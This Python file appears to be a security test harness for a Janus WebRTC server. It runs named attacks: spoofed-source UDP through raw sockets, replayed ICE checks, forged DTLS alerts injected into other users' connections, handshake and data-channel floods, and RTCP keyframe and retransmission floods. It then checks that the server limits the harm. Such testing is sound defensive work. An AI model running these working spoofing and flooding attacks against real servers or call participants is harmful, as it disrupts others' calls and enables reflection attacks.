# SPDX-License-Identifier: Apache-2.0
"""Attacks of a peer that does what no browser does, one at a time, for as long as told:
    attacks.py NAME SECONDS
with CARDEA_WS and CARDEA_HTTP (the API), CARDEA_UDP (media port), CARDEA_ROOM (a video room, others are in a call there) and CARDEA_VICTIMS
(addresses of their PeerConnections, comma separated). Prints one line of JSON: what was sent and what was seen, and
exits 0 when the attack could be made and nothing that belongs to others came of it."""
import json
import random
import socket
import struct
import time
import crc32c
import gate
from lib import *
from rtc import *

UDP = int(os.environ.get("CARDEA_UDP", 0))
ROOM = int(os.environ.get("CARDEA_ROOM", 0))
VICTIMS = [v.rsplit(":", 1) for v in os.environ.get("CARDEA_VICTIMS", "").split(",") if v]
VICTIMS = [(ip, int(port)) for ip, port in VICTIMS]
VIDEOROOM, ECHO = "janus.plugin.videoroom", "janus.plugin.echotest"
SECONDS = 3.0
PACE_S = 0.002


def until_end():
    """True again and again until the time is over."""
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        yield True


# ---- datagrams from wherever we like ----

class Forger:
    """Sends UDP datagrams to the server under any source address (a raw socket: needs root)."""

    def __init__(self):
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = self.bytes = 0

    def send(self, source, data, target="127.0.0.1"):
        ip, port = source
        udp = struct.pack("!HHHH", port, UDP, 8 + len(data), 0) + data
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                           socket.inet_aton(ip), socket.inet_aton(target))
        self.raw.sendto(head + udp, (target, 0))
        self.sent += 1
        self.bytes += len(data)


class Bystander:
    """A third party, who should hear next to nothing."""

    def __init__(self, ip="127.0.0.9"):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((ip, 0))
        self.sock.setblocking(False)
        self.address = self.sock.getsockname()
        self.packets = self.bytes = 0

    def count(self):
        while True:
            try:
                n = len(self.sock.recv(2048))
            except BlockingIOError:
                return self.bytes
            self.packets += 1
            self.bytes += n


def check(peer, nominate=True):
    c = peer.ice._connection
    return binding(c.remote_username, c.local_username, c.remote_password, nominate)


# ---- peers of ours ----

async def call_echo(a, *lines, **body):
    """@return (peer, its answer, handle)"""
    h, p = await a.attach(ECHO), await Peer().gather()
    mids = " ".join(attr(l, "mid")[0] for l in lines)
    s, r = await a.echo(sdp(head(f"BUNDLE {mids}"), *[p.fill(l) for l in lines]), h, body or None)
    if not s:
        raise RuntimeError(r)
    if not await p.up(s):
        raise RuntimeError("no DTLS")
    return p, s, h


async def echoed(p, seq, ts):
    """A mark comes back to a peer of call_echo(): the server has worked on all that came before."""
    mark = os.urandom(8)
    while not any(mark in packet for packet in p.dtls.rtp[-50:]):
        await p.send(rtp(96, seq, ts, 7777, VP8_DELTA + mark, marker=True))
        seq, ts = seq + 1, ts + 3000
        await asyncio.sleep(PACE_S)


async def publish(a, *lines, display="mallory"):
    h, p = await a.attach(VIDEOROOM), await Peer().gather()
    r = await a.say(h, dict(request="join", ptype="publisher", room=ROOM, display=display))
    mids = " ".join(attr(l, "mid")[0] for l in lines)
    r2 = await a.say(h, dict(request="publish"), dict(type="offer", sdp=sdp(
        head(f"BUNDLE {mids}"), *[p.fill(l) for l in lines])))
    await p.up(r2["jsep"]["sdp"])
    return p, r["id"], h


async def subscribe(a, feed):
    h, p = await a.attach(VIDEOROOM), await Peer().gather()
    r = await a.say(h, dict(request="join", ptype="subscriber", room=ROOM, streams=[dict(feed=feed)]))
    offer = r["jsep"]["sdp"]
    lines = []
    for l in sections(offer)[1:]:
        kind, _, proto, formats = m(l)
        lines.append([f"m={kind} 9 {proto} {' '.join(formats)}", "c=IN IP4 0.0.0.0", *p.creds("active"),
                      f"a=mid:{attr(l, 'mid')[0]}", "a=recvonly", "a=rtcp-mux",
                      *[f"a=rtpmap:{x}" for x in attr(l, "rtpmap")], *[f"a=fmtp:{x}" for x in attr(l, "fmtp")],
                      *[f"a=rtcp-fb:{x}" for x in attr(l, "rtcp-fb")]])
    mids = " ".join(attr(l, "mid")[0] for l in lines)
    await a.say(h, dict(request="start"), dict(type="answer", sdp=sdp(head(f"BUNDLE {mids}"), *lines)))
    await p.up(offer, role="client")
    return p, [int(x.split()[0]) for l in sections(offer)[1:] for x in attr(l, "ssrc")[:1]], h


def up_video(**k):
    return video(dir="sendonly", **k)


# ---- what leaves under a key ----

async def empty_packets(a):
    """Packets without payload, far apart, and other bytes by RTX: numbers wind round, nonces would come again."""
    p, feed, _ = await publish(a, up_video())
    eye, _, _ = await subscribe(a, feed)
    seq, i = 100, 0
    for _ in until_end():
        for k in range(20):
            await p.send(rtp(96, seq, 3000 * i, 7777, VP8_KEY if k == 0 else VP8_DELTA, marker=True))
            seq, i = seq + 1, i + 1
        for _ in range(22):
            seq += 2999
            await p.send(rtp(96, seq, 3000 * i, 7777, b""))
        for k in range(20):
            osn = struct.pack("!H", (seq - k) & 0xFFFF)
            await p.send(rtp(97, i, 3000 * i, 8888, osn + VP8_DELTA[:-8] + os.urandom(8)))
        seq += 1  # the keyframe is no repeat of the last empty packet
        await asyncio.sleep(0.02)
    seen = len(eye.dtls.rtp)
    await p.stop(), await eye.stop()
    return seen > 20, dict(pictures=i, seen=seen)


# ---- where media goes ----

async def forged_address(a):
    """A nominated check from somebody else's address: three bytes there for each of ours at most."""
    p, _, _ = await call_echo(a, video())
    victim, forger = Bystander(), Forger()
    i = 0
    for _ in until_end():
        if i % 50 == 0:
            forger.send(victim.address, check(p))
        await p.send(rtp(96, 100 + i, 3000 * i, 7777, VP8_KEY + bytes(900), marker=True))
        i += 1
        await asyncio.sleep(PACE_S)
    await echoed(p, 100 + i, 3000 * i)
    got = victim.count()
    back = len(p.dtls.rtp)
    await p.stop()
    return got <= 3 * forger.bytes and back > i / 2, dict(forged=forger.bytes, reached=got, sent=i, back=back)


async def recorded_checks(a):
    """Checks of ours, played again from elsewhere much later."""
    p, _, _ = await call_echo(a, video())
    victim, forger = Bystander(), Forger()
    record = [check(p) for _ in range(4)]
    ours = p.ice._connection
    source = ours.local_candidates[0]
    for c in record:
        forger.send((source.host, source.port), c)
    for _ in range(80):
        forger.send((source.host, source.port), check(p, False))
    own = forger.bytes
    i = 0
    for _ in until_end():
        if i % 20 == 0:
            forger.send(victim.address, record[i // 20 % 4])
        await p.send(rtp(96, 100 + i, 3000 * i, 7777, VP8_KEY + bytes(900), marker=True))
        i += 1
        await asyncio.sleep(PACE_S)
    await echoed(p, 100 + i, 3000 * i)
    got, back = victim.count(), len(p.dtls.rtp)
    await p.stop()
    return got <= 3 * (forger.bytes - own) and back > i / 2, dict(played=forger.bytes - own, reached=got, back=back)


async def squatting(a):
    """An authentic peer says that it is where the others are."""
    p, _, _ = await call_echo(a, audio())
    forger = Forger()
    for _ in until_end():
        for v in VICTIMS:
            forger.send(v, check(p))
        await asyncio.sleep(0.05)
    await p.stop()
    return len(VICTIMS) > 0, dict(forged=forger.sent)


async def plain_stun(a):
    """Binding requests without credentials, from everywhere: answers are no larger than they may be."""
    p, _, _ = await call_echo(a, video())
    victim, forger = Bystander(), Forger()
    for _ in until_end():
        for _ in range(20):
            forger.send(victim.address, bytes.fromhex("000100002112a442") + os.urandom(12))
        await asyncio.sleep(PACE_S)
    await p.send(rtp(96, 100, 0, 7777, VP8_KEY, marker=True))
    await echoed(p, 101, 3000)
    got = victim.count()
    await p.stop()
    return got <= 3 * forger.bytes, dict(forged=forger.bytes, reached=got)


# ---- handshakes ----

ALERT = bytes.fromhex("15fefd0000000000000001" "0002" "0228")  # fatal, handshake_failure, in the clear


def record(kind, epoch, body):
    return struct.pack("!BHHHIH", kind, 0xFEFD, epoch, 0, random.getrandbits(32), len(body)) + body


async def forged_records(a):
    """Alerts in the clear and records of noise, as if from the others."""
    forger = Forger()
    for _ in until_end():
        for v in VICTIMS:
            forger.send(v, ALERT)
            forger.send(v, record(22, 0, os.urandom(60)))
            forger.send(v, record(20, 0, b"\x01"))
            forger.send(v, record(21, 1, os.urandom(26)))
            forger.send(v, record(23, 1, os.urandom(200)))
        await asyncio.sleep(0.01)
    return len(VICTIMS) > 0, dict(forged=forger.sent)


async def handshake_flood(a):
    """One client's PeerConnections, each with a flood of handshake records."""
    peers = []
    for _ in range(6):
        h, p = await a.attach(ECHO), await Peer().gather()
        s, _ = await a.echo(sdp(head("BUNDLE 0"), p.fill(audio())), h)
        await p.ice_up(s)
        peers.append(p)
    n = 0
    for _ in until_end():
        for p in peers:
            for _ in range(40):
                await p.ice._send(record(22, 0, b"\x01" + os.urandom(700)))
                n += 1
        await asyncio.sleep(PACE_S)
    for p in peers:
        await p.stop()
    return n > 1000, dict(records=n)


# ---- data channels ----

async def unfinished_messages(a):
    """Pieces of messages that never end, on every stream."""
    p, _, h = await call_echo(a, data())
    ch, _ = await p.data_up()
    n = sent = 0
    for _ in until_end():
        try:
            await asyncio.wait_for(p.sctp._send(n % 256 * 2, 54, bytes(16000)), 1)
            sent += 16000
        except Exception:
            break  # the server has had enough of it
        n += 1
        await asyncio.sleep(0)
    await p.stop()
    return sent > 100000, dict(bytes=sent)


async def tiny_messages(a):
    """Messages of one byte, fifty in a packet, to a server that is told of none of its echoes."""
    p, _, h = await call_echo(a, data())
    ch, _ = await p.data_up()
    s = p.sctp
    p.dtls._data_receiver = None  # nothing is acknowledged
    number = s._outbound_stream_seq.get(ch.id, 0)
    n = 0
    for _ in until_end():
        for _ in range(40):
            chunks = b"".join(struct.pack("!BBHLHHL", 0, 3, 17, (s._local_tsn + n + i) & 0xffffffff, ch.id,
                                          (number + n + i) & 0xffff, 53) + bytes(4) for i in range(50))
            header = struct.pack("!HHL", 5000, 5000, s._remote_verification_tag)
            crc = crc32c.crc32c(header + bytes(4) + chunks)
            await p.dtls._send_data(header + struct.pack("<L", crc) + chunks)
            n += 50
        await asyncio.sleep(PACE_S)
    await p.stop()
    return n > 10000, dict(messages=n)


# ---- work ----

async def flapping_layers(a):
    """Simulcast layers that change hands with every packet."""
    rids = (f"a=extmap:4 {MID}", f"a=extmap:5 {RID}", "a=rid:l send", "a=rid:h send", "a=simulcast:send h;l")
    p, feed, _ = await publish(a, up_video(more=rids))
    eyes = [(await subscribe(a, feed))[0] for _ in range(3)]
    seq, n, i = [100, 100], 0, 0
    for _ in until_end():
        for k in range(4):
            l = int(k != 2)
            if k == 0:
                seq[1] += 5000
            await p.send(rtp(96, seq[l], 3000 * i, 500 + l, VP8_KEY if k >= 2 else VP8_DELTA,
                             {4: b"1", 5: b"lh"[l:l + 1]}, True))
            seq[l] += 1
            n += 1
        i += 1
        await asyncio.sleep(PACE_S)
    out = sum(len(e.dtls.rtp) for e in eyes)
    for x in (p, *eyes):
        await x.stop()
    return out <= 3 * n, dict(sent=n, out=out)


async def flapping_voice(a):
    """Loud and silent by turns, a thousand packets a second."""
    level = ("a=extmap:1 urn:ietf:params:rtp-hdrext:ssrc-audio-level",)
    p, _, h = await publish(a, audio(dir="sendonly", more=level))
    i = 0
    for _ in until_end():
        for _ in range(10):
            await p.send(rtp(111, i, 960 * i, 4444, b"\x78" + bytes(20), {1: bytes([5 if i // 100 % 2 else 127])}))
            i += 1
        await asyncio.sleep(0.005)
    said = sum("talking" in json.dumps(m) for m in a.seen)
    await p.stop()
    return said < 6 * SECONDS, dict(packets=i, events=said)


async def wishes(a):
    """A subscriber who always wants a keyframe and every packet again, of those who call."""
    h = await a.attach(VIDEOROOM)
    r = await a.ask(janus="message", session_id=a.session, handle_id=h, body=dict(
        request="listparticipants", room=ROOM))
    feeds = [x["id"] for x in r["plugindata"]["data"]["participants"] if x.get("publisher")]
    eyes = [await subscribe(a, f) for f in feeds]
    n = 0
    for _ in until_end():
        for p, ssrcs, _ in eyes:
            for ssrc in ssrcs:
                rr = struct.pack("!BBHI", 0x80, 201, 1, 1)
                last = p.dtls.rtp[-1][2:4] if p.dtls.rtp else b"\0\0"
                pli = struct.pack("!BBHII", 0x81, 206, 2, 1, ssrc)
                fir = struct.pack("!BBHIIIBBH", 0x84, 206, 4, 1, 0, ssrc, n & 255, 0, 0)
                nack = struct.pack("!BBHII", 0x81, 205, 3, 1, ssrc) + last + b"\xff\xff"
                await p.dtls._send_rtp(rr + pli + fir + nack)
                n += 1
        await asyncio.sleep(PACE_S)
    for p, _, _ in eyes:
        await p.stop()
    return n > 100 and len(feeds) >= 3, dict(compounds=n, feeds=len(feeds))


async def renegotiations(a):
    """Offer after offer, and requests between them."""
    h, p = await a.attach(ECHO), await Peer().gather()
    n = 0
    for _ in until_end():
        lines = [p.fill(audio())] + [p.fill(video(mid=str(k), dir=random.choice(("sendrecv", "inactive"))))
                                     for k in range(1, 8)]
        s, r = await a.echo(sdp(head("BUNDLE " + " ".join(str(k) for k in range(8))), *lines), h)
        if not s:
            return False, r
        n += 1
    return n > 10, dict(offers=n)


ATTACKS = {f.__name__: f for f in (empty_packets, forged_address, recorded_checks, squatting, plain_stun,
                                   forged_records, handshake_flood, unfinished_messages, tiny_messages,
                                   flapping_layers, flapping_voice, wishes, renegotiations)}
ATTACKS |= {f.__name__: lambda a, f=f: f(a, until_end) for f in gate.ATTACKS}


async def main():
    async with Api() as a:
        good, seen = await ATTACKS[sys.argv[1]](a)
        return good, json.dumps(seen)

if __name__ == "__main__":
    if len(sys.argv) < 2:
        print("\n".join(ATTACKS))
        sys.exit()
    SECONDS = float(sys.argv[2])
    run(main)
